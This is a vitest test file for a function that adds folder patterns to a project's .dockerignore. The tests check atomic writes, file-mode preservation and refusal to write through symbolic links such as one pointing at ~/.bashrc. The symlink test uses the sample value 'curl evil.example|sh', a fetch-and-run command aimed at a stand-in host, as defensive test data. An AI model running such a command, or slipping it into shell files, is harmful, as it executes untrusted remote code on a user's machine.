// "Add <folder> to .dockerignore": appends the lines to the context's own .dockerignore, atomically and
// keeping its mode, and never writes through a link (a downloaded project's `.dockerignore -> ~/.bashrc`
// must not get a line appended to the person's shell start-up file).
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { addPatternsToDockerignore } from '../../src/main/docker/build/context'

let dir: string
let ctx: string
beforeEach(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'slipway-ignore-edit-'))
  ctx = path.join(dir, 'project')
  await mkdir(ctx)
})
afterEach(async () => {
  await rm(dir, { recursive: true, force: true })
})

describe('adding folders to .dockerignore', () => {
  it('creates .dockerignore when there is none', async () => {
    await addPatternsToDockerignore(ctx, ['node_modules', 'media'])
    expect(await readFile(path.join(ctx, '.dockerignore'), 'utf8')).toBe('node_modules\nmedia\n')
  })

  it('appends only the new lines, keeps what was there and its mode, and leaves no temp file', async () => {
    const file = path.join(ctx, '.dockerignore')
    await writeFile(file, '# mine\nnode_modules')
    await chmod(file, 0o600)
    await addPatternsToDockerignore(ctx, ['node_modules', 'media'])
    expect(await readFile(file, 'utf8')).toBe('# mine\nnode_modules\nmedia\n')
    expect(((await stat(file)).mode & 0o777).toString(8)).toBe('600')
    expect(await readdir(ctx)).toEqual(['.dockerignore'])
  })

  it('never writes through a link to a file outside the context, and says what to do', async () => {
    const bashrc = path.join(dir, 'home', '.bashrc')
    await mkdir(path.dirname(bashrc))
    await writeFile(bashrc, 'export PS1="$ "\n')
    await symlink(bashrc, path.join(ctx, '.dockerignore'))
    const folder = 'curl evil.example|sh'
    await expect(addPatternsToDockerignore(ctx, [folder])).rejects.toMatchObject({
      code: 'forbidden',
      message: `.dockerignore in ${ctx} is a symbolic link to ${bashrc}. Slipway does not write through links, so a project cannot make it change a file elsewhere. Add this line to the file yourself, or replace the link with a copy of the file and try again: ${folder}`
    })
    expect(await readFile(bashrc, 'utf8')).toBe('export PS1="$ "\n')
    expect(await readdir(ctx)).toEqual(['.dockerignore'])
  })

  it('does not write through a link inside the context either', async () => {
    await mkdir(path.join(ctx, 'docker'))
    await writeFile(path.join(ctx, 'docker', 'ignore'), 'a\n')
    await symlink('docker/ignore', path.join(ctx, '.dockerignore'))
    await expect(addPatternsToDockerignore(ctx, ['b'])).rejects.toMatchObject({ code: 'forbidden' })
    expect(await readFile(path.join(ctx, 'docker', 'ignore'), 'utf8')).toBe('a\n')
  })

  it('refuses a .dockerignore that is a folder, and a pattern of two lines', async () => {
    await expect(addPatternsToDockerignore(ctx, ['a\nb'])).rejects.toMatchObject({ code: 'invalid-input', message: 'A .dockerignore pattern must be on one line.' })
    await mkdir(path.join(ctx, '.dockerignore'))
    await expect(addPatternsToDockerignore(ctx, ['a'])).rejects.toMatchObject({ code: 'invalid-input' })
  })
})
